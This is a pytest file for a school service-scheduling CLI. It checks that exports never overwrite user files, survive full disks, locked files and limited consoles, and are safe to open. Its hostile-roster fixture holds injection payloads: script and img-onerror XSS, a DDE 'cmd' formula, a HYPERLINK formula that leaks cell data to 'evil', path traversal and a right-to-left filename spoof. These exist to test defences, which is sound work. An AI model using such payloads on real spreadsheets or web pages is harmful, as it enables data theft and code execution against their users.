"""What the program writes: never over what is yours, whole, and harmless to open."""

import csv
import errno
import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path

import icalendar
import openpyxl
import pytest
from pathvalidate import is_valid_filename
from typer.testing import CliRunner
from written_results import written_result

from pushpull_sched.cli.main import app
from pushpull_sched.domain.disk import not_written
from pushpull_sched.domain.schedule import Schedule, Served, Session
from pushpull_sched.domain.service import Setting
from pushpull_sched.workbook.load import load_school
from pushpull_sched.workbook.template import roster_book

SEIS = (
    Path(__file__).parents[1] / "interop" / "data" / "services" / "seis-deliveries.csv"
)
ONEROSTER = Path(__file__).parents[1] / "interop" / "data" / "oneroster-1.2"
SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
HOSTILE = {
    "settings": [
        {
            "school": f"=cmd|' /C calc'!A0 {SCRIPT}",
            "term_start": "2026-09-01",
            "term_end": "2026-12-18",
        }
    ],
    "students": [
        {"student_id": "../../x", "name": f"=Ana {IMAGE}", "grade": "3"},
        {"student_id": "NUL.txt", "name": "+1\u202egpj.exe", "grade": "3"},
    ],
    "classes": [
        {
            "class_id": f"@C{SCRIPT}",
            "subject": "Math",
            "days": "Mon-Fri",
            "start": "8:00",
            "end": "12:00",
            "grade": "3",
            "teacher": f"-Ms {IMAGE}",
            "room": "..",
        }
    ],
    "rooms": [{"room_id": "nul. ", "name": f"=1+1 {SCRIPT}"}],
    "providers": [
        {
            "provider_id": "CON",
            "name": '=HYPERLINK("http://evil/?" & A1,"x"). ',
            "role": "SLP",
            "days": "Mon-Fri",
            "start": "8:00",
            "end": "15:00",
        }
    ],
    "services": [
        {
            "service_id": f"=S{number}",
            "student_id": student,
            "service": f"@Speech\\;{SCRIPT}",
            "setting": "pull-out",
            "frequency": "30 min weekly",
            "role": "SLP",
        }
        for number, student in enumerate(("../../x", "NUL.txt"), start=1)
    ],
}
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")


def run(*arguments):
    return CliRunner().invoke(app, [str(argument) for argument in arguments])


def words(text):
    return " ".join(text.split())


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "roster.xlsx"
    roster_book(HOSTILE).save(path)
    return path


@pytest.fixture
def result(roster):
    loaded = load_school(roster)
    assert loaded.usable, loaded.findings
    school = loaded.school
    schedule = Schedule(
        sessions=(
            Session(
                id="1",
                week=1,
                day=0,
                start=540,
                end=570,
                setting=Setting.PULL_OUT,
                provider_id=school.providers[0].id,
                room_id=school.rooms[0].id,
                class_id=None,
                served=tuple(
                    Served(service_id=one.id, service=one.name, student_id=one.student)
                    for one in school.services
                ),
            ),
        )
    )
    return written_result(
        roster.parent / "roster-schedule",
        school,
        schedule,
        roster_name=roster.name,
        roster_sha256=loaded.sha256,
    )


# Nothing that is yours is written over


def commands(folder):
    """Every command that writes a file, and the file it is to write."""
    roster, result = folder / "roster.xlsx", folder / "roster-schedule"
    out = folder / "mine"
    return {
        "template": (("template", out / "a.xlsx"), "a.xlsx"),
        "check": (("check", roster, "--annotate", out / "a.xlsx"), "a.xlsx"),
        "compare book": (
            ("compare", result, result, "--xlsx", out / "a.xlsx"),
            "a.xlsx",
        ),
        "compare page": (
            ("compare", result, result, "--html", out / "a.html"),
            "a.html",
        ),
        "oneroster": (
            ("import", "oneroster", ONEROSTER, "--out", out / "a.xlsx"),
            "a.xlsx",
        ),
        "services": (("import", "services", SEIS, "--out", out / "a.xlsx"), "a.xlsx"),
        "pseudonymize": (("pseudonymize", roster, "--out", out), "roster.xlsx"),
        "export-data": (
            ("export-data", result, "--standard", "ceds", "--out", out / "a.csv"),
            "a.csv",
        ),
        "export": (
            ("export", result, "--by", "room", "--format", "csv", "--out", out),
            "room-sessions.csv",
        ),
        "solve": (
            ("solve", roster, "--out", out, "--time-limit", "5", "--workers", "1"),
            "schedule.xlsx",
        ),
    }


@pytest.mark.parametrize("name", commands(Path()))
def test_o01_files_that_are_there_stay_without_force(name, result):
    folder = result.parent
    arguments, file = commands(folder)[name]
    (folder / "mine").mkdir()
    mine = folder / "mine" / file
    mine.write_text("mine")
    answer = run(*arguments)
    assert answer.exit_code == 2, answer.output
    assert "--force" in words(answer.output)
    assert mine.read_text() == "mine"
    assert [path.name for path in mine.parent.iterdir()] == [file]


@pytest.mark.parametrize("name", sorted(set(commands(Path())) - {"solve"}))
def test_o01_force_replaces(name, result):
    folder = result.parent
    arguments, file = commands(folder)[name]
    (folder / "mine").mkdir()
    mine = folder / "mine" / file
    mine.write_text("mine")
    answer = run(*arguments, "--force")
    assert answer.exit_code in {0, 3, 4}, answer.output
    assert mine.read_bytes() != b"mine"


def test_o01_a_schedule_edited_by_hand_stays(result, roster):
    book = result / "schedule.xlsx"
    edited = openpyxl.load_workbook(book)
    edited["Schedule"]["E2"] = "10:00"
    edited.save(book)
    before = book.read_bytes()
    answer = run("solve", roster, "--out", result, "--time-limit", "5")
    assert answer.exit_code == 2
    assert "edited" in answer.output
    assert "--force" in answer.output
    assert book.read_bytes() == before


@pytest.mark.parametrize(
    "link", ["roster.xlsx", "link.xlsx", "hard.xlsx", "./x/../roster.xlsx"]
)
def test_o02_the_roster_is_never_the_target(result, roster, link):
    before = roster.read_bytes()
    target = roster.parent / link
    (roster.parent / "x").mkdir()
    if link == "link.xlsx":
        target.symlink_to(roster)
    if link == "hard.xlsx":
        os.link(roster, target)
    for arguments in (
        ("check", roster, "--annotate", target),
        ("import", "services", SEIS, "--into", roster, "--out", target),
    ):
        answer = run(*arguments, "--force")
        assert answer.exit_code == 2, answer.output
        assert roster.read_bytes() == before


# Harmless to open


class Tags(HTMLParser):
    """Collects what could act: tags with their attributes."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_page_is_harmless(text):
    assert SCRIPT not in text
    parser = Tags()
    parser.feed(text)
    for tag, attributes in parser.tags:
        assert tag not in {"img", "iframe", "object", "embed", "base"}
        assert not [name for name in attributes if name.startswith("on")]
        for name in ("src", "href", "action"):
            link = attributes.get(name) or ""
            assert not link.startswith(("http", "javascript", "//")), link


def assert_book_is_harmless(path):
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)


def assert_csv_is_harmless(path):
    for row in csv.reader(StringIO(path.read_bytes().decode("utf-8-sig"))):
        assert not [text for text in row if text.startswith(FORMULA_SIGNS)], row


def assert_calendar_is_sound(path):
    data = path.read_bytes()
    assert max(map(len, data.split(b"\r\n"))) <= 75
    events = icalendar.Calendar.from_ical(data).walk("VEVENT")
    assert events
    if path.name.startswith(("room", "class")):
        return  # on a door no service is named
    assert all("@Speech\\;<script>" in str(event["SUMMARY"]) for event in events)


@pytest.mark.slow
def test_o03_to_o06_hostile_names_do_no_harm_anywhere(result, roster):
    folder = roster.parent
    out = folder / "out" / "deep"
    every = ("provider", "student", "teacher", "room", "class", "master")
    formats = ("xlsx", "html", "ics", "csv", "pdf")
    answer = run(
        "export", result, *[word for by in every for word in ("--by", by)],
        *[word for kind in formats for word in ("--format", kind)],
        "--separate", "--names", "full", "--time-zone", "UTC", "--out", out,
    )  # fmt: skip
    assert answer.exit_code == 0, answer.output
    for standard in ("ceds", "edfi"):
        done = run(
            "export-data",
            result,
            "--standard",
            standard,
            "--out",
            out / f"{standard}.csv",
        )
        assert done.exit_code == 0, done.output
    files = [path for path in out.iterdir() if not path.name.startswith(".")]
    assert len(files) > 20
    assert set(folder.rglob("*.ics")) == {f for f in files if f.suffix == ".ics"}
    assert [path.name for path in (folder / "out").iterdir()] == ["deep"]
    for path in (*files, *result.iterdir()):
        assert is_valid_filename(path.name, platform="universal"), path.name
        assert path.name.isprintable()
        match path.suffix:
            case ".html":
                assert_page_is_harmless(path.read_text(encoding="utf-8"))
            case ".xlsx":
                assert_book_is_harmless(path)
            case ".csv":
                assert_csv_is_harmless(path)
            case ".ics":
                assert_calendar_is_sound(path)
    content = json.loads((result / "schedule.json").read_bytes())
    assert content["sessions"][0]["provider_id"] == "CON"  # JSON is for programs


def test_c04_names_are_printed_as_they_are_written(result, roster):
    answer = run("show", result, "--date", "2026-09-07")
    assert answer.exit_code == 0, answer.output
    assert "@Speech" in answer.stdout
    assert run("verify", roster, result).exit_code == 0


def test_o07_sheets_of_people_have_legal_names(result):
    book = openpyxl.load_workbook(result / "schedule.xlsx")
    for title in book.sheetnames:
        assert len(title) <= 31
        assert not set(title) & set("[]:*?/\\")
        assert not title.startswith("'")
    assert len({title.casefold() for title in book.sheetnames}) == len(book.sheetnames)


# Consoles that know few letters

SPEAK = """
import json, sys
sys.argv = ["pushpull-sched", *json.loads(sys.argv[1])]
from pushpull_sched.cli.main import run
run()
"""


@pytest.mark.parametrize("encoding", ["cp1252", "cp437", "ascii"])
@pytest.mark.parametrize(
    ("name", "code"),
    [("check", 0), ("verify", 0), ("show", 0), ("missing", 2)],
)
def test_c01_consoles_that_know_few_letters(result, roster, encoding, name, code):
    """As a Windows console or a pipe there would have it."""
    lines = {
        "check": ("check", roster, "--demand"),
        "verify": ("verify", roster, result),
        "show": ("show", result, "--date", "2026-09-07"),
        "missing": ("check", roster.with_name("\u5b66\u6821 \u2713.xlsx")),
    }
    words = [str(word) for word in lines[name]]
    done = subprocess.run(
        [sys.executable, "-c", SPEAK, json.dumps(words)],
        capture_output=True,
        check=False,
        env={**os.environ, "PYTHONIOENCODING": encoding},
    )
    said = done.stdout.decode(encoding) + done.stderr.decode(encoding)
    assert done.returncode == code, said
    assert "Traceback" not in said
    assert "Unexpected" not in said
    assert "\x1b" not in said


# Disks and locks

FULL_DISK = """
import json, resource, sys
from typer.testing import CliRunner
from pushpull_sched.cli.main import app

if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))
    answers = [CliRunner().invoke(app, line) for line in json.loads(sys.argv[1])]
    print(json.dumps([[one.exit_code, one.output] for one in answers]))
"""


@pytest.mark.skipif(sys.platform == "win32", reason="a limit of Unix")
@pytest.mark.slow
def test_o09_a_full_disk_is_named_and_leaves_nothing(result):
    folder = result.parent
    (folder / "mine").mkdir()
    names = [name for name in commands(folder) if name != "solve"]
    lines = [[str(word) for word in commands(folder)[name][0]] for name in names]
    done = subprocess.run(
        [sys.executable, "-c", FULL_DISK, json.dumps(lines)],
        capture_output=True,
        encoding="utf-8",
        check=True,
    )
    for name, (code, text) in zip(names, json.loads(done.stdout), strict=True):
        assert code == 2, (name, text)
        assert "the disk is full" in words(text), (name, text)
        assert "another disk" in words(text)
    assert list((folder / "mine").rglob("*")) == []


@pytest.mark.parametrize("name", sorted(set(commands(Path())) - {"solve", "export"}))
def test_o08_a_file_open_in_excel_is_named(name, result, monkeypatch):
    folder = result.parent
    (folder / "mine").mkdir()
    arguments, file = commands(folder)[name]
    mine = folder / "mine" / file
    mine.write_text("mine")
    (mine.parent / f"~${file}").write_text("Excel's")
    real = Path.replace

    def locked(self, target):
        if Path(target) == mine:
            raise PermissionError(errno.EACCES, "Permission denied", str(target))
        return real(self, target)

    monkeypatch.setattr(Path, "replace", locked)
    answer = run(*arguments, "--force")
    assert answer.exit_code == 2, answer.output
    assert f"{file} is open in Excel." in words(answer.output)
    assert mine.read_text() == "mine"
    assert {path.name for path in mine.parent.iterdir()} == {file, f"~${file}"}


@pytest.mark.parametrize("name", sorted(set(commands(Path())) - {"solve"}))
@pytest.mark.parametrize(
    ("number", "says"),
    [
        (errno.EROFS, "the disk is read-only"),
        (errno.EACCES, "you may not write there"),
        (errno.ENAMETOOLONG, "is too long"),
        (errno.EIO, "Input/output error"),
    ],
)
def test_o09_folders_that_cannot_be_written(name, number, says, result, monkeypatch):
    folder = result.parent
    (folder / "mine").mkdir()

    def refuse(*_, **__):
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr("pushpull_sched.app.files.TemporaryDirectory", refuse)
    monkeypatch.setattr("pushpull_sched.app.exported_files.TemporaryDirectory", refuse)
    answer = run(*commands(folder)[name][0])
    assert answer.exit_code == 2, answer.output
    assert says in words(answer.output)
    assert list((folder / "mine").rglob("*")) == []


def test_o09_a_folder_that_is_missing(result):
    for name in ("template", "check", "compare book", "services", "export-data"):
        answer = run(*commands(result.parent)[name][0])
        assert answer.exit_code == 2, (name, answer.output)
        assert "does not exist" in words(answer.output)


def test_every_reason_has_words_and_advice(tmp_path):
    for number in errno.errorcode:
        fault = OSError(number, os.strerror(number))
        message, advice = not_written(tmp_path / "x", fault, option="with --out")
        assert "x" in message
        assert advice.endswith("with --out.")
    assert "OSError" in not_written(tmp_path, OSError(), option="with --out")[0]
